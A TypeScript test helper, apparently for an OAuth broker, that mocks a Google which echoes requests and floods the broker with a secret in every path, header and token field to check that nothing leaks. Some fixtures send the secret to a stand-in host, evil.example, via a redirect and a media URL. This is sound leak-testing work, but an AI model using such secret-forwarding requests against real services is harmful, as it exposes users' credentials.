/** A Google that repeats every request in its answers, and requests that contain a secret wherever text is possible. */

import { ask, broker, the } from './broker.ts'
import type { Browser } from './browser.ts'
import { gallery } from './frontend.ts'
import { askMedia } from './media.ts'

/** Answers of Google that repeat what it was sent: errors, a page, a redirect, a failed connection. */
export const SABOTAGE: ((sent: string) => Response)[] = [
  (sent) => Response.json({ error: 'invalid_grant', error_description: sent }, { status: 400 }),
  (sent) => Response.json({ error: 'invalid_client', error_description: sent }, { status: 401 }),
  (sent) => Response.json({ error: sent, error_uri: sent }, { status: 400 }),
  (sent) => new Response(`<h1>${sent}</h1>`, { status: 500, headers: { 'X-Debug': 'canary' } }),
  (sent) => Response.json({ access_token: 7, token_type: sent, scope: sent, expires_in: sent }),
  (sent) => Response.redirect(`https://evil.example/?${encodeURIComponent(sent)}`),
  (sent) => {
    throw new TypeError(`could not send ${sent}`, { cause: new Error(sent) })
  },
]

/** Sends requests with a secret in every place. */
export async function everywhere(secret: string, browser: Browser): Promise<void> {
  const text = encodeURIComponent(secret)
  for (const path of [
    ...[`/${text}`, `/grants/${text}`, `/media?ticket=${text}`, `/session?access_token=${text}`],
    `/connect?bundle=${text}&return_to=/app`,
    `/connect?bundle=pick&return_to=${text}`,
    `/connect?bundle=pick&return_to=/app&client=${text}`,
    ...[`/authorize?client_id=${text}`, `/authorize?client_id=gallery&request_uri=${text}`],
    `/callback?state=${text}&code=${text}`,
    `/callback?error=${text}&error_description=${text}`,
  ]) {
    await browser.fetch(the.url + path)
    await browser.fetch(the.url + path, { headers: { Accept: 'text/html' } })
    await browser.call('DELETE', the.url + path)
  }
  for (const body of [
    { bundle: secret },
    { bundle: 'pick', rejected: secret },
    { [secret]: secret },
  ])
    await ask(browser, body)
  await askMedia(browser, [`https://evil.example/${text}`, secret])
  await ask(browser, undefined, { Authorization: `Bearer ${secret}` })
  await ask(browser, undefined, { Origin: secret })
  const headers = { Origin: gallery.origin, DPoP: secret, Authorization: `DPoP ${secret}` }
  for (const fields of [
    { grant_type: secret },
    { grant_type: 'refresh_token', client_id: 'gallery', refresh_token: secret, scope: secret },
    { grant_type: 'authorization_code', client_id: secret, code: secret, code_verifier: secret },
  ])
    for (const path of ['/token', '/par', '/revoke']) {
      const init = { method: 'POST', headers, body: new URLSearchParams(fields) }
      await broker(new Request(the.url + path, init))
    }
  const bearer = { ...headers, Authorization: `Bearer ${secret}` }
  await broker(new Request(`${the.url}/session`, { headers: bearer }))
}
